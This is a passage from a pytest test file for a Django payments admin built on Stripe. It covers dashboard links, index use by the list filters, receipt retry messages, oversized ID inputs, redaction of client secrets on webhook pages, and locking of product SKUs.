    assert html.index("evt_mine1") < html.index("evt_mine2")  # oldest first
    assert "payment_intent.payment_failed" in html and "Insufficient funds" in html


@pytest.mark.parametrize(("api_base", "key", "link"), [
    ("http://127.0.0.1:12111", "sk_test_x", None),
    ("", "sk_test_x", "https://dashboard.stripe.com/test/payments/pi_big"),
    ("", "sk_live_x", "https://dashboard.stripe.com/payments/pi_big"),
])
def test_a_link_to_stripes_dashboard_only_with_real_keys(varied, merchant, settings,
                                                         api_base, key, link):
    settings.STRIPE_API_BASE, settings.STRIPE_SECRET_KEY = api_base, key
    html = merchant.get(f"/admin/payments/incident/{varied['big'].pk}/change/").content.decode()
    if link is None:
        assert "dashboard.stripe.com" not in html
    else:
        assert f'href="{link}"' in html


@pytest.mark.skipif(connection.vendor != "postgresql", reason="a PostgreSQL plan")
@pytest.mark.parametrize("query", ["decline_code=stolen_card", "currency=usd&card_brand=amex",
                                   "card_brand=amex", "currency=chf", "o=2", "o=-2",
                                   "card_brand=visa&o=2"])
def test_the_incident_lists_filters_read_their_index(db, admin_user, query):
    """A value few incidents hold (or none) is found in its index, in the list's order
    (migration 0066), rather than by reading every incident; the count too; sorted by
    amount (``o=2``), the amounts' index (0067)."""
    from django.test import RequestFactory

    # Enough incidents, visa in EUR without a decline code but 1 in 1,000, for the
    # planner to weigh its choices as it does at scale (the filters offer the values
    # present, and a filter with nothing to offer is not applied).
    rare = {"decline_code": "stolen_card", "currency": "chf", "card_brand": "amex"}
    common = {"decline_code": "", "currency": "eur", "card_brand": "visa"}
    Incident.objects.bulk_create([Incident(
        kind=Incident.Kind.EXPIRED, stripe_id=f"pi_plan{n}", amount=1000 + n,
        intent_status="canceled", source="scan", **(rare if n % 1000 == 0 else common))
        for n in range(3000)])
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE payments_incident")
    request = RequestFactory().get("/admin/payments/incident/?" + query)
    request.user = admin_user
    changelist = admin.site._registry[Incident].get_changelist_instance(request)
    page = changelist.get_queryset(request)[:100]
    with connection.cursor() as cursor:
        plans = []
        counted = changelist.get_queryset(request).order_by()[:100_001]
        # A sort's concern is the page; its count is the filter's (above).
        for rows in (page,) if "o=" in query else (page, counted):
            sql, params = rows.query.sql_with_params()
            cursor.execute("EXPLAIN " + sql, params)
            plans.append("\n".join(row[0] for row in cursor.fetchall()))
    for plan in plans:
        assert "Seq Scan on payments_incident" not in plan, plan
        assert re.search(r"incident_(decline|brand|currency|amount)_list", plan), plan


def test_the_order_page_says_when_the_mail_server_refused_its_receipt(paid_order, merchant):
    Order.objects.filter(pk=paid_order.pk).update(receipt_sent_at=None, receipt_refusals=2,
                                                  receipt_retry_at=timezone.now())
    html = merchant.get(f"/admin/payments/order/{paid_order.pk}/change/").content.decode()
    assert "Refused by the mail server 2 times; next try" in html
    Order.objects.filter(pk=paid_order.pk).update(receipt_refusals=RECEIPT_MAX_REFUSALS)
    html = merchant.get(f"/admin/payments/order/{paid_order.pk}/change/").content.decode()
    assert f"Refused by the mail server {RECEIPT_MAX_REFUSALS} times; given up" in html


@pytest.mark.parametrize("path", ["/admin/payments/order/", "/admin/payments/paymentattempt/",
                                  "/admin/payments/opsaction/", "/admin/payments/product/",
                                  "/admin/payments/incident/export/"])
def test_a_number_past_64_bits_in_the_address_is_no_500(merchant, path):
    """SQLite's driver refuses the number (the list unfiltered, saying so); PostgreSQL
    compares it as numeric and lists nothing."""
    page = merchant.get(path, {"id__in": "9" * 30}, follow=True)
    assert page.status_code == 200
    if page.redirect_chain:
        assert "was not valid" in page.content.decode()


def test_a_webhook_events_page_shows_the_intent_not_its_client_secret(admin_client):
    """Ops read events; a client secret completes the payment in a browser."""
    secret = "pi_3Abc123_secret_Zyx987"
    event = WebhookEvent.objects.create(
        id="evt_secret1", type="payment_intent.succeeded", object_id="pi_3Abc123",
        created=timezone.now(), livemode=False,
        body=json.dumps({"data": {"object": {"id": "pi_3Abc123", "client_secret": secret}}}))
    page = admin_client.get(f"/admin/payments/webhookevent/{event.pk}/change/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "pi_3Abc123_secret_[redacted]" in html and "Zyx987" not in html


def test_a_products_sku_cannot_be_changed_once_it_exists(admin_client):
    """Carts hold products by SKU: a renamed one left every cart holding it empty."""
    product = Product.objects.create(sku="poster", name="Poster", price=1500, currency="eur")
    form = {"sku": "poster-a2", "name": "Poster", "price": "1500", "currency": "eur",
            "active": "on"}
    page = admin_client.get(f"/admin/payments/product/{product.pk}/change/")
    assert 'name="sku"' not in page.content.decode()
    admin_client.post(f"/admin/payments/product/{product.pk}/change/", form)
    product.refresh_from_db()
    assert product.sku == "poster"
    assert 'name="sku"' in admin_client.get("/admin/payments/product/add/").content.decode()
